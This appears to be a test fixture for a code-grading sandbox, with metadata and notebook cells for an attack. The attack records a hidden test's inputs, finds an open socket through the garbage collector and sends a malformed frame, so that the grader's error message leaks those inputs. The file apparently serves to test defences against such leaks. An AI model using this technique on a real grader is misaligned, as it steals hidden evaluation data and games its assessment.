# ---
# attack: Sends a frame that cannot be read and holds the inputs of a hidden test; what is said about it quotes the frame.
# class: say what was hidden
# sandboxes: [namespaces]
# detected: "could not be read"
# ---
# %% question="q1"
def double(x):
    return np.asarray(x) + 2

# %% instead="q1"
seen = []
mark = "LE" + "AK"


def double(x):
    seen.append(np.asarray(x).tolist())
    return np.asarray(x) + 2

# %% before="q2"
import gc
import socket
import struct
import time

import msgspec

wire = next(one for one in gc.get_objects() if type(one) is socket.socket and one.fileno() >= 0)
head = msgspec.msgpack.encode([f"{mark} {seen}", 1])
wire.sendall(struct.pack("<IQ", len(head), 0) + head)
time.sleep(60)
